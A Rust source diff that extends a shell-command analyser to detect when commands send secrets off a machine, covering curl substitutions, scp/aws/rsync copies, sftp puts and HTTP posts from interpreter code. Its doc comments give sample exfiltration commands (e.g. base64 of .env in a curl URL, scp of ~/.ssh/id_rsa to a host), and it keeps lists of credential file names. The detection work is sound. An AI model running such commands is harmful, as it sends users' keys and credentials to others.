@@ -2,7 +2,10 @@
 //! request or down a connection.
 
 use crate::shell::effects::services::http::is_here;
-use crate::shell::model::{Command, CommandInput, Effect, EffectKind, Script, Word};
+use crate::shell::model::{Command, CommandInput, Effect, EffectKind, Script, UNKNOWN, Word};
+use crate::shell::parse::output;
+use crate::shell::wrappers::interpreter_code::calls::each_call;
+use crate::shell::wrappers::interpreter_code::tokens::SourceToken;
 
 /// Clients of HTTP that send what an option names.
 const CLIENTS: &[&str] = &["curl", "wget", "http", "https", "xh", "xhs"];
@@ -24,9 +27,15 @@ pub(crate) fn effect(script: &Script, command: &Command) -> Option<Effect> {
     let sent = match program {
         _ if by_client => in_words(program, words).or_else(|| {
             let takes_input = words.iter().any(|word| takes_what_comes_in(&word.text));
-            takes_input.then(|| coming_in(script, &command.input, FARTHEST)).flatten()
+            let coming_in = || coming_in(script, &command.input, FARTHEST);
+            takes_input.then(coming_in).flatten().or_else(|| printed_into_its_words(script, command))
         }),
         _ if PIPES.contains(&program) => coming_in(script, &command.input, FARTHEST),
+        "scp" | "rsync" | "rclone" | "aws" | "gsutil" | "gcloud" | "azcopy" | "mc" | "s3cmd" => {
+            copied_away(command)
+        }
+        "sftp" | "lftp" | "ftp" => put_away(script, command),
+        _ if command.code.is_some() => posted_by_source(command),
         "gh" if matches!(words, [gist, create, ..] if gist.text == "gist" && create.text == "create") => {
             named_in(words)
         }
@@ -60,6 +69,7 @@ fn in_words(program: &str, words: &[Word]) -> Option<String> {
         let is_body = text.starts_with('@')
             || text.contains("=@")
             || text.starts_with("-d@")
+            || before == "--data-urlencode"
             || !program.starts_with("curl");
         match is_upload(before) {
             true => Some(text),
@@ -100,12 +110,115 @@ fn down_a_socket(script: &Script, command: &Command) -> Option<String> {
     named_in(command.words.get(1..)?).or_else(|| coming_in(script, &command.input, FARTHEST))
 }
 
+/// `curl "https://x/?d=$(base64 .env)"`: what a substitution among the words prints of all of a secret. Who signs a request
+/// with one sends it to whom it is for.
+fn printed_into_its_words(script: &Script, command: &Command) -> Option<String> {
+    const WHOLE: &[&str] = &["cat", "base64", "base32", "xxd", "hexdump", "od", "gzip", "tar", "openssl"];
+    const SIGNING: &[&str] = &["-H", "--header", "-u", "--user", "-b", "--cookie", "--oauth2-bearer"];
+    let carries = |pair: &[Word]| matches!(pair, [before, word] if word.text.contains(UNKNOWN) && !SIGNING.contains(&before.text.as_str()));
+    if !command.source.contains("$(") || !command.words.windows(2).any(carries) {
+        return None;
+    }
+    let is_within = |other: &Command| {
+        let is_part = !other.source.is_empty() && other.source.len() < command.source.len();
+        is_part && command.source.contains(&other.source)
+    };
+    let named = |(at, other): (usize, &Command)| {
+        // What takes a part of it out of what comes in sends that part.
+        let is_last = !script.commands.iter().any(|next| next.input == CommandInput::From(at));
+        let whole = is_last && WHOLE.contains(&other.program()) && is_within(other);
+        whole
+            .then(|| named_in(other.words.get(1..)?).or_else(|| coming_in(script, &other.input, FARTHEST)))
+            .flatten()
+    };
+    script.commands.iter().enumerate().find_map(named)
+}
+
+/// `scp ~/.ssh/id_rsa host:/tmp`, `aws s3 cp .env s3://bucket`: a secret among what is copied to another machine or a store.
+fn copied_away(command: &Command) -> Option<String> {
+    const VALUED: &[&str] = &[
+        "-i",
+        "-o",
+        "-F",
+        "-P",
+        "-J",
+        "-l",
+        "-c",
+        "-S",
+        "-e",
+        "--rsh",
+        "-f",
+        "--exclude",
+        "--include",
+        "--exclude-from",
+        "--profile",
+        "--region",
+        "--endpoint-url",
+        "--config",
+        "--password-file",
+    ];
+    let words: Vec<&Word> = command.words.iter().skip(1).collect();
+    let is_value = |at: usize| {
+        at.checked_sub(1)
+            .and_then(|at| words.get(at))
+            .is_some_and(|word| VALUED.contains(&word.text.as_str()))
+    };
+    let operands =
+        words.iter().enumerate().filter(|(at, word)| !word.text.starts_with('-') && !is_value(*at));
+    let operands: Vec<&str> = operands.map(|(_, word)| word.text.as_str()).collect();
+    let at = operands.iter().rposition(|operand| is_elsewhere(operand))?;
+    let (to, from) = (operands.get(at)?, operands.get(..at)?);
+    let tries = words.iter().any(|word| matches!(word.text.as_str(), "--dry-run" | "--dryrun" | "-n"));
+    (!is_here(to) && !tries).then_some(())?;
+    from.iter().find(|path| !is_elsewhere(path) && is_secret(path)).map(|path| (*path).to_owned())
+}
+
+/// Whether an operand names a place on another machine or in a store: `host:/tmp`, `s3://bucket`.
+fn is_elsewhere(operand: &str) -> bool {
+    operand.split_once(':').is_some_and(|(host, _)| host.len() > 1 && !host.contains('/'))
+}
+
+/// `echo 'put .env' | sftp host`.
+fn put_away(script: &Script, command: &Command) -> Option<String> {
+    let given = command.words.iter().skip(1).map(|word| word.text.clone());
+    let orders: Vec<String> = given.chain(output::text::text_from(script, &command.input)).collect();
+    let mut orders = orders.iter().flat_map(|text| text.split(['\n', ';']));
+    orders.find_map(|order| {
+        let mut words = order.split_whitespace();
+        let puts = matches!(words.next()?, "put" | "mput" | "reput");
+        words.find(|path| puts && is_secret(path)).map(str::to_owned)
+    })
+}
+
+/// `requests.post(url, data=open('.env').read())`: a secret that a request of a source opens among its arguments.
+fn posted_by_source(command: &Command) -> Option<String> {
+    const SENDING: &[&str] = &["post", "put", "request", "urlopen", "fetch", "Request"];
+    let code = command.code.as_ref()?;
+    let text = code.text.as_deref().filter(|text| text.contains("://"))?;
+    let mut sent = None;
+    each_call(code.language, text, |call| {
+        let last = call.name.rsplit('.').next().unwrap_or_default();
+        let texts = || {
+            call.inside.iter().filter_map(|token| match token {
+                SourceToken::Text(Some(text)) => Some(text.as_str()),
+                _ => None,
+            })
+        };
+        let goes_away = || texts().any(|text| text.contains("://") && !is_here(text));
+        if sent.is_none() && SENDING.contains(&last) && goes_away() {
+            sent = texts().find(|text| is_secret(text)).map(str::to_owned);
+        }
+    });
+    sent
+}
+
 /// Whether a path's name says that it holds keys or passwords, and no example of them.
 fn is_secret(path: &str) -> bool {
     const NAMES: &[&str] = &[
         ".netrc",
         ".pgpass",
         ".pypirc",
+        ".npmrc",
         ".git-credentials",
         ".vault-token",
         "id_rsa",
@@ -129,7 +242,9 @@ fn is_secret(path: &str) -> bool {
         && (is_environment
             || of_ssh
             || of_folder(".gnupg")
-            || path.ends_with("/.ssh")
+            || ["/.ssh", "/.ssh/", "/.gnupg", "/.gnupg/", "/.aws", "/.aws/"]
+                .iter()
+                .any(|it| path.ends_with(it))
             || NAMES.contains(&name)
             || PLACES.iter().any(|place| path.ends_with(place)))
 }
